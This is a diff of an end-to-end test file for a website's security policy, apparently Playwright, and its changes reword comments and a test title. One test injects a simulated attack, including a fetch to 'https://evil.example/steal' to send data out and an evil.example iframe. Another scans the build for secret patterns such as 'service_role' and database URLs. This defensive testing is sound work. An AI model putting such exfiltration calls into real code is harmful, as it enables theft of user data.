@@ -14,7 +14,7 @@ test("X2: the built site sends the policy, and nothing weaker than it", async ({
   ]) {
     expect(policy).toContain(directive);
   }
-  // One script in every page, with other addresses in each language, and that of the search page.
+  // One script in every page, with different addresses per language, and that of the search page.
   expect(policy).toMatch(/script-src 'self'(?: 'sha256-[^']+'){3} https:\/\/js\.stripe\.com;/);
   expect(policy).not.toContain("unsafe-eval");
   const api = process.env.AURUM_E2E_API_URL ?? "";
@@ -52,7 +52,7 @@ test.describe("an injection", () => {
       frame.src = "https://evil.example/";
       document.body.append(inline, foreign, frame);
       void fetch("https://evil.example/steal").catch(() => undefined);
-      // A string for a timer is evaluated as script; code that the test itself evaluates would be let through.
+      // A string for a timer is evaluated as script; code that the test itself evaluates would be allowed.
       setTimeout("window.injected = true");
     });
     const seen = () =>
@@ -62,13 +62,13 @@ test.describe("an injection", () => {
   });
 });
 
-test("E7: no file of the built site holds a key of the server", () => {
+test("E7: no file of the built site contains a server key", () => {
   const folder = process.env.AURUM_E2E_BUILD_DIR ?? "";
   const files = readdirSync(folder, { recursive: true, encoding: "utf8" })
     .map((name) => join(folder, name))
     .filter((path) => statSync(path).isFile() && !path.endsWith(".br"));
   const secrets = [SECRET_KEY, "sb_secret", "service_role", JWT_SECRET, LOCAL_RESEND_KEY, "postgresql://"];
-  // How such a key begins, the official client knows; no key is so short.
+  // The official client knows how such a key begins; no key is this short.
   const texts = files.map((path) => readFileSync(path, "utf8").replaceAll(/sb_secret_(?!\w)/g, ""));
   expect(texts.some((text) => text.includes("sb_publishable_local"))).toBe(true);
   for (const secret of secrets) {
